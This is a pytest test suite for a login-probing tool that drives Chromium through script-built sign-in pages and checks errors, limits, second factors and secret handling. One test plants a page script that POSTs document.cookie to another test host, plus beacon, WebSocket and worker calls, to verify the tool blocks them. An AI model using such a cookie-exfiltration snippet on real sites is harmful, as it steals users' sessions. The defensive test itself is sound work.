"""Logging in with the real Chromium on pages that nobody passes without scripts; what a page can do wrong, and may not do."""

import json
import os
import tempfile
import time
from collections.abc import Iterator
from pathlib import Path
from threading import Event
from urllib.parse import urlsplit

import pytest
import yaml

from otelprobe.chromium import VARIABLE
from otelprobe.clock import SystemClock
from otelprobe.config.load import load
from otelprobe.http import LiveHttp
from otelprobe.plan import build
from otelprobe.reasons import Blame, Counts, Reason
from otelprobe.result import Fact, FlowResult
from otelprobe.run import Tools, run_flow
from tests.conftest import Answer, Seen, Server
from tests.flow_kit import passed, step, verdict
from tests.stack.harness import chromium

CALLBACK = "https://app.example.com/cb"
PASSWORD = "browser-password-canary"
TOTP = "JBSWY3DPEHPK3PXP"
CONFIG = (Blame.CONFIG, Counts.NONE)
_HTML = [("Content-Type", "text/html; charset=utf-8")]
_SCRIPT = [("Content-Type", "text/javascript")]

APP = """
const root = document.getElementById('root');
const show = (html, then) => setTimeout(() => { root.innerHTML = html; then(); }, 100);
const value = (id) => document.getElementById(id).value;
const send = async (body) => {
  const answer = await fetch('/api/login', { method: 'POST', headers: { 'Content-Type': 'application/json' },
    body: JSON.stringify(body) });
  const told = await answer.json();
  if (told.to) location.href = told.to;
  else if (told.code) askCode();
  else document.getElementById('told').innerText = 'wrong';
};
const askCode = () => show('<label>Code <input id="otp" autocomplete="one-time-code"></label><button id="go">Verify</button>',
  () => { document.getElementById('go').onclick = () => send({ code: value('otp') }); });
show('<p id="told"></p><input id="username"><input id="password" type="password"><button id="go">Sign in</button>', () => {
  document.getElementById('go').onclick = () => send({ user: value('username'), password: value('password') });
});
"""


class Application:
    """A provider whose log-in is a single page made by a script: without scripts there is nothing to fill in."""

    def __init__(self, server: Server, *, head: str = "", script: str = APP, second_factor: bool = False) -> None:
        self.server, self.second_factor, self._state = server, second_factor, ""
        page = f'<!doctype html><title>Shop</title>{head}<div id="root"></div><script src="/app.js"></script>'
        self.page = Answer(200, page.encode(), [*_HTML, ("Set-Cookie", "sid=session-canary; HttpOnly; Path=/")])
        server.on("/authorize", self._authorize)
        server.on("/app.js", Answer(200, script.encode(), _SCRIPT))
        server.on("/api/login", self._login)
        server.on(
            "/done", lambda _: Answer(302, b"", [("Location", f"{CALLBACK}?code=code-canary&state={self._state}")])
        )

    def _authorize(self, seen: Seen) -> Answer:
        self._state = seen.query["state"][0]
        return self.page

    def _login(self, seen: Seen) -> Answer:
        told = json.loads(seen.body)
        if "sid=session-canary" not in seen.headers.get("cookie", ""):
            return _json(400, {"error": "no session"})
        if len(told.get("code", "")) == 6 or (told.get("password") == PASSWORD and not self.second_factor):
            return _json(200, {"to": "/done"})
        return _json(200, {"code": True}) if told.get("password") == PASSWORD else _json(401, {})

    def run(self, folder: Path, *, deadline: str = "120s", **members: object) -> FlowResult:
        """Log in once."""
        known = {"username": "ann", "password": {"env": "PASSWORD"}, "browser": True}
        login = {"step": "authorize", "redirect_uri": CALLBACK, **known, **members}
        endpoints = {"authorization": f"{self.server.url}/authorize"}
        patient = {"timeout": "60s"}  # a machine that does much else is none of what is tested
        provider = {"issuer": self.server.url, "client_id": "probe", "endpoints": endpoints, "http": patient}
        flow = {"name": "shop", "provider": "idp", "deadline": deadline, "steps": [login]}
        (folder / "flow.yaml").write_text(yaml.safe_dump({"providers": {"idp": provider}, "flows": [flow]}), "utf-8")
        (plan,) = build(load([folder / "flow.yaml"]))
        return run_flow(plan, Tools(http=LiveHttp(SystemClock())))


def _json(status: int, document: object) -> Answer:
    return Answer(status, json.dumps(document).encode(), [("Content-Type", "application/json")])


@pytest.fixture(autouse=True)
def _ready(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Iterator[None]:
    """Have a browser and the secrets; nothing of the browser may be left when a test is over.

    `tmp_path` is asked for so that pytest has made its own folder before the one for temporary files is another.
    """
    assert tmp_path.is_dir()
    chromium.obtain()
    temporary = Path(tempfile.mkdtemp(prefix="otp-"))  # short: Chromium makes a socket in it
    monkeypatch.setattr("tempfile.tempdir", str(temporary))
    monkeypatch.setenv("PASSWORD", PASSWORD)
    monkeypatch.setenv("TOTP", TOTP)
    yield
    temporary.rmdir()
    assert not _children()


def _children() -> list[str]:
    """Give the processes that were started from this one and have not ended, or not been waited for."""
    own = Path("/proc/self/task")
    return [child for task in own.iterdir() for child in (task / "children").read_text().split() if _is_browser(child)]


def _is_browser(process: str) -> bool:
    status = Path(f"/proc/{process}/status")
    return status.exists() and "chrom" in status.read_text().splitlines()[0].lower()


@pytest.fixture
def stranger() -> Iterator[Server]:
    """Give a server of another host name."""
    running = Server()
    running.url = running.url.replace("127.0.0.1", "localhost")
    yield running
    running.stop()


def test_a_page_that_needs_scripts(server: Server, tmp_path: Path) -> None:
    """Passed with a browser, and known for what it is without one; each request is an exchange in the run's trace."""
    application = Application(server)
    result = application.run(tmp_path)
    assert passed(result)
    row = step(result, "authorize")
    assert row.facts[Fact.LOGIN_FORMS] == 1
    assert [(x.method, x.status) for x in row.exchanges] == [("GET", 200), ("GET", 200), ("POST", 200), ("GET", 302)]
    sent = [f"00-{result.trace_id:032x}-{x.span_id:016x}-01" for x in row.exchanges]
    assert [seen.headers["traceparent"] for seen in server.seen] == sent
    for secret in (PASSWORD, "session-canary", "code-canary"):
        assert secret not in repr(result)
    without = application.run(tmp_path, browser=False)
    assert verdict(without) == ("authorize", Reason.JAVASCRIPT_REQUIRED, *CONFIG)
    assert "JavaScript" in (without.detail or "")


def test_the_browsers_own_start_is_not_measured(server: Server, tmp_path: Path) -> None:
    """The step's time is that of its requests and pages, less than that of the whole run."""
    result = Application(server).run(tmp_path)
    assert sum(x.duration for x in step(result, "authorize").exchanges) <= result.auth_duration < result.duration


def test_rules_for_fields(server: Server, tmp_path: Path) -> None:
    """The rules of the flow file say what goes where, by names or ids, as on plain forms."""
    rule = {"fields": {"username": "ann", "password": {"env": "PASSWORD"}}, "submit": "go"}
    assert passed(Application(server).run(tmp_path, username=None, password=None, forms=[rule]))


def test_a_second_factor(server: Server, tmp_path: Path) -> None:
    """A code is computed where the page asks for one; without the secret the page is known for what it is."""
    application = Application(server, second_factor=True)
    assert passed(application.run(tmp_path, totp={"env": "TOTP"}))
    assert verdict(application.run(tmp_path)) == ("authorize", Reason.MFA_CHALLENGE, *CONFIG)


def test_a_wrong_password(server: Server, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """It is sent once, and the form stays."""
    monkeypatch.setenv("PASSWORD", "wrong-canary")
    result = Application(server).run(tmp_path)
    assert verdict(result) == ("authorize", Reason.LOGIN_REJECTED, *CONFIG)
    assert sum(seen.path == "/api/login" for seen in server.seen) == 1


@pytest.mark.parametrize(
    ("answer", "reason"),
    [
        (Answer(503), Reason.IDP_HTTP_5XX),
        (Answer(429), Reason.IDP_RATE_LIMITED),
        (Answer(403, b"", [("cf-mitigated", "challenge")]), Reason.BOT_CHALLENGE),
    ],
)
def test_what_the_script_is_answered(server: Server, tmp_path: Path, answer: Answer, reason: Reason) -> None:
    """An outage, a limit or a bot check behind the page is the reason, and not the form that stays."""
    application = Application(server)
    server.on("/api/login", answer)
    assert verdict(application.run(tmp_path))[:2] == ("authorize", reason)


@pytest.mark.parametrize(
    ("page", "reason"),
    [
        (Answer(503, b"<p>later", _HTML), Reason.IDP_HTTP_5XX),
        (Answer(403, b"<p>Just a moment", [*_HTML, ("cf-mitigated", "challenge")]), Reason.BOT_CHALLENGE),
        (Answer(200, b"<p>Please solve this captcha</p>", _HTML), Reason.BOT_CHALLENGE),
        (Answer(200, b"<form><input name=colour></form>", _HTML), Reason.LOGIN_FORM_NOT_FOUND),
        (Answer(200, b"<script>location.href = '/authorize?' + location.search</script>", _HTML), Reason.REDIRECT_LOOP),
        (Answer(302, b"", [("Location", "/authorize?state=1")]), Reason.REDIRECT_LOOP),
        (Answer(302, b"", [("Location", "http://other.example.com/")]), Reason.REDIRECT_UNEXPECTED),
        (Answer(200, b"<script>location.href = 'http://localhost:1/'</script>", _HTML), Reason.REDIRECT_UNEXPECTED),
        (Answer(200, b"{}", [("Content-Type", "application/json")]), Reason.LOGIN_FORM_NOT_FOUND),
        (Answer(400, b"<p>unknown client", _HTML), Reason.INVALID_REQUEST),
    ],
)
def test_pages_that_are_no_log_in(server: Server, tmp_path: Path, page: Answer, reason: Reason) -> None:
    """The same reasons as on plain forms: outage, bot check, a form that changed, an endless redirect, another host."""
    application = Application(server)
    application.page = page
    result = application.run(tmp_path)
    assert verdict(result)[:2] == ("authorize", reason), result.detail


def test_an_endless_redirect_is_told_early(server: Server, tmp_path: Path) -> None:
    """By the page that comes again and again; not only when no more pages are allowed, or no time is left."""
    application = Application(server)
    application.page = Answer(200, b"<script>location.href = '/authorize?' + location.search</script>", _HTML)
    result = application.run(tmp_path)
    assert result.detail == f"the same page of {urlsplit(server.url).hostname} came 9 times, and nothing was sent"


def test_scripts_are_large(server: Server, tmp_path: Path) -> None:
    """A log-in page's script has megabytes; what is larger than the flow file allows is told as that."""
    large = f"/*{'x' * 3_000_000}*/{APP}"
    assert passed(Application(server, script=large).run(tmp_path))
    result = Application(server, script=large).run(tmp_path, http={"max_size": "2MiB"})
    assert verdict(result)[:2] == ("authorize", Reason.RESPONSE_TOO_LARGE), result.detail


def test_all_together_must_not_be_too_large(server: Server, tmp_path: Path) -> None:
    """Many answers that are each in order are one that is not."""
    head = "".join(f'<link rel="stylesheet" href="/{number}.css">' for number in range(6))
    for number in range(6):
        server.on(f"/{number}.css", Answer(200, b" " * 80_000, [("Content-Type", "text/css")]))
    assert passed(Application(server, head=head).run(tmp_path, http={"max_size": "200KiB"}))
    result = Application(server, head=head).run(tmp_path, http={"max_size": "100KiB"})
    assert verdict(result)[:2] == ("authorize", Reason.RESPONSE_TOO_LARGE), result.detail


def test_requests_are_told_as_they_began(server: Server, tmp_path: Path) -> None:
    """Of several at a time, the one that ends last too stands where it began."""
    slow = Event()

    def style(_: Seen) -> Answer:
        slow.wait(30)
        return Answer(200, b"", [("Content-Type", "text/css")])

    def script(_: Seen) -> Answer:
        slow.set()
        return Answer(200, APP.encode(), _SCRIPT)

    application = Application(server, head='<link rel="stylesheet" href="/slow.css">')
    server.on("/slow.css", style)
    server.on("/app.js", script)
    rows = step(application.run(tmp_path), "authorize").exchanges
    assert [x.start_ns for x in rows] == sorted(x.start_ns for x in rows)
    assert {x.url.rpartition("/")[2] for x in rows[1:3]} == {"slow.css", "app.js"}


def test_nothing_goes_to_another_host(server: Server, stranger: Server, tmp_path: Path) -> None:
    """Not what a script sends, not what a page loads, not by a socket or a worker; what was needed is named."""
    there = stranger.url
    head = (
        f'<script src="{there}/needed.js"></script><img src="{there}/pixel"><link rel="stylesheet" href="{there}/css">'
        f"<script>fetch('{there}/leak', {{method: 'POST', body: document.cookie}}).catch(() => 0);"
        f"navigator.sendBeacon('{there}/beacon', 'x'); new WebSocket('{there.replace('http', 'ws')}/socket');"
        f"new Worker(URL.createObjectURL(new Blob([\"fetch('{there}/worker')\"])));"
        f"window.open('{there}/window');</script>"
    )
    result = Application(server, head=head, script="needed()").run(tmp_path)
    assert verdict(result) == ("authorize", Reason.LOGIN_FORM_NOT_FOUND, *CONFIG)
    assert "nothing was loaded from localhost" in (result.detail or "")
    assert not stranger.seen


def test_scripts_of_a_host_that_is_allowed(server: Server, stranger: Server, tmp_path: Path) -> None:
    """`hosts` lets them in; they get none of the provider's cookies."""
    stranger.on("/lib.js", Answer(200, APP.encode(), _SCRIPT))
    head, script = "", f"import('{stranger.url}/lib.js')"
    stranger.on("/lib.js", Answer(200, APP.encode(), [*_SCRIPT, ("Access-Control-Allow-Origin", "*")]))
    assert passed(Application(server, head=head, script=script).run(tmp_path, hosts=["localhost"]))
    assert [seen.path for seen in stranger.seen] == ["/lib.js"]
    assert "cookie" not in stranger.seen[0].headers


@pytest.mark.parametrize(
    "script",
    [
        "for (;;) {}",
        "setTimeout(() => { for (;;) {} }, 300)",
        "setInterval(() => document.body.append(Math.random()), 5)",
        "setInterval(() => fetch('/slow'), 50)",
        "alert(1); alert(2); for (;;) alert(3)",
    ],
)
def test_pages_that_never_come_to_rest(server: Server, tmp_path: Path, script: str) -> None:
    """The deadline ends them, and the browser with them."""
    for deadline in (4, 12, 36):  # a busy machine may take the first of them to start the browser at all
        started = time.monotonic()
        result = Application(server, script=script).run(tmp_path, deadline=f"{deadline}s")
        assert time.monotonic() - started < deadline + 30
        if result.reason is not Reason.PROBER_OVERLOADED:
            break
    assert verdict(result)[:2] in {("authorize", Reason.DEADLINE_EXCEEDED), ("authorize", Reason.LOGIN_FORM_NOT_FOUND)}


def test_a_password_in_a_url(server: Server, tmp_path: Path) -> None:
    """A form whose script does not stop it from being sent by GET is not sent."""
    application = Application(server)
    application.page = Answer(200, b"<form><input name=username><input type=password name=password><button>Go", _HTML)
    result = application.run(tmp_path)
    assert verdict(result) == ("authorize", Reason.LOGIN_FORM_NOT_FOUND, *CONFIG)
    assert len(server.seen) == 1


def test_no_browser(server: Server, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Where there is none, or what is named is none, it says so and how to get one."""
    monkeypatch.setenv(VARIABLE, str(tmp_path / "none"))
    result = Application(server).run(tmp_path)
    assert verdict(result) == ("authorize", Reason.CONFIG_ERROR, *CONFIG)
    assert VARIABLE in (result.detail or "")
    broken = tmp_path / "broken"
    broken.write_text("#!/bin/sh\necho 'No usable sandbox!' >&2\nexit 1\n")
    broken.chmod(0o755)
    monkeypatch.setenv(VARIABLE, str(broken))
    result = Application(server).run(tmp_path)
    assert (result.reason, result.detail) == (Reason.CONFIG_ERROR, "the browser does not start: No usable sandbox!")
    monkeypatch.delenv(VARIABLE)
    monkeypatch.setenv("PATH", os.devnull)
    assert "install Chromium" in (Application(server).run(tmp_path).detail or "")


def test_the_environment_stays_outside(server: Server, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The browser's process gets none of our variables, where secrets may be."""
    seen = tmp_path / "environment"
    program = tmp_path / "browser"
    program.write_text(f'#!/bin/sh\nenv > {seen}\nexec {chromium.obtain()} "$@"\n')
    program.chmod(0o755)
    monkeypatch.setenv(VARIABLE, str(program))
    assert passed(Application(server).run(tmp_path))
    assert PASSWORD not in seen.read_text()
